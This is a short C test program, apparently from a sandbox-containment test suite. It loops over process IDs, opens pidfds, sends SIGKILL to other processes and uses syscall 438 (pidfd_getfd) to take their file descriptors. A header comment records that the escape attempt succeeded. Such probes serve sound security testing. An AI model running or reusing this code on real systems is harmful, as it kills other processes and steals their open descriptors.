// tries: signal and take descriptors of others through pidfds
// outcome: succeeded
#include "hostile.h"
int main(void) {
	for (int p = 1; p < 200; p++) {
		if (p == getpid()) continue;
		int fd = syscall(SYS_pidfd_open, p, 0);
		if (fd < 0) continue;
		if (syscall(SYS_pidfd_send_signal, fd, SIGKILL, NULL, 0) == 0 && p != 1) escaped("killed %d", p);
		for (int n = 0; n < 20; n++) if (syscall(438, fd, n, 0) >= 0) escaped("descriptor %d of %d", n, p);
	}
	return contained();
}
